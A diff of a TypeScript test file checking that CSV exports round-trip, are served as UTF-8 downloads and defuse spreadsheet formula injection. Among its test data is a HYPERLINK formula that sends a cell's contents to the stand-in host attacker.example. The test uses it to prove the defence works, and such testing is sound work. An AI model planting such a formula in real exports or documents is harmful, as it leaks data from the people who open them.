@@ -1,9 +1,14 @@
 /** The CSV downloads round-trip through a parser: what a spreadsheet reads is what the generator meant. */
 import { describe, expect, it } from 'vitest';
-import { parseCsv, toCsv, CSV_BOM } from '../../src/lib/csv.ts';
+import { csvResponse, parseCsv, toCsv, CSV_BOM } from '../../src/lib/csv.ts';
 import { buildMatrix, cellText, matrixColumns, matrixRows, matrixTable } from '../../src/lib/matrix.ts';
 import { buildChecklists, checklistTable, CHECKLIST_CSV_HEADER, sourceKey } from '../../src/lib/checklists.ts';
 import { fixtureModel, realModel } from '../fixtures/generated/model.ts';
+import { wordsFormatter } from '../../src/i18n/words.ts';
+import { roleName } from '../../src/lib/titles.ts';
+import type { Model } from '../../src/lib/model.ts';
+
+const sayIn = (model: Model) => wordsFormatter('en', (id) => roleName(model, id));
 
 describe('toCsv', () => {
   it('starts with a byte order mark for Excel and ends rows with CRLF', () => {
@@ -40,6 +45,28 @@ describe('toCsv', () => {
   });
 });
 
+describe('parseCsv and csvResponse', () => {
+  it('defuses every formula start: = + - @, a tab, a carriage return, a line break', () => {
+    const cells = ['=1', '+1', '-1', '@1', '\t1', '\r1', '\n1'];
+    expect(
+      parseCsv(toCsv([['h'], ...cells.map((c) => [c])]))
+        .slice(1)
+        .map(([c]) => c),
+    ).toEqual(cells.map((c) => `'${c}`));
+  });
+  it('refuses text that is not CSV, naming the row', () => {
+    expect(() => parseCsv('a,b\r\n"unclosed,c')).toThrow(/^invalid CSV: row 1: /);
+  });
+  it('serves the CSV as a UTF-8 download under the given file name', async () => {
+    const response = csvResponse([['a'], ['部门']], 'matrix.csv');
+    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="matrix.csv"');
+    // The bytes, not response.text(): a text decoder drops the byte order mark Excel needs.
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect(bytes.toString('utf8')).toBe(`${CSV_BOM}a\r\n部门`);
+  });
+});
+
 /** A formula an author could paste into any text the exports carry: it opens a link when a cell is clicked. */
 const MULTILINE_FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,\n"evidence")';
 
@@ -47,7 +74,9 @@ describe('every CSV export defuses a multi-line formula in any cell', () => {
   const model = realModel();
   const exports: [string, string[][]][] = [
     ['matrix.csv', matrixTable(buildMatrix(model))],
-    ...buildChecklists(model).map((c) => [`checklists/${c.id}.csv`, checklistTable(c)] as [string, string[][]]),
+    ...buildChecklists(model).map(
+      (c) => [`checklists/${c.id}.csv`, checklistTable(c, sayIn(model))] as [string, string[][]],
+    ),
   ];
   it.each(exports)('%s', (_, table) => {
     // the formula in every column of the first data row, as content could put it there
@@ -80,16 +109,18 @@ describe('the matrix CSV', () => {
 const defused = (text: string) => text.replace(/^([=+\-@\t\r\n])/, "'$1");
 
 describe('the checklist CSVs', () => {
-  const checklists = buildChecklists(realModel());
+  const model = realModel();
+  const say = sayIn(model);
+  const checklists = buildChecklists(model);
   it.each(checklists.map((c) => [c.id, c] as const))('%s round-trips, one row per item', (_, checklist) => {
-    const parsed = parseCsv(toCsv(checklistTable(checklist)));
+    const parsed = parseCsv(toCsv(checklistTable(checklist, say)));
     expect(parsed[0]).toEqual([...CHECKLIST_CSV_HEADER]);
     expect(parsed.length).toBe(checklist.items.length + 1);
     checklist.items.forEach((item, i) => {
       const row = Object.fromEntries(CHECKLIST_CSV_HEADER.map((h, j) => [h, parsed[i + 1]![j]]));
       expect(row['item']).toBe(item.id);
-      expect(row['statement']).toBe(defused(item.statement));
-      expect(row['evidence']).toBe(defused(item.evidence.join('\n')));
+      expect(row['statement']).toBe(defused(say(item.statement)));
+      expect(row['evidence']).toBe(defused(item.evidence.map(say).join('\n')));
       expect(row['basis']).toBe(item.basis);
       expect(row['source']).toBe(sourceKey(item.source));
       expect(row['done']).toBe('');
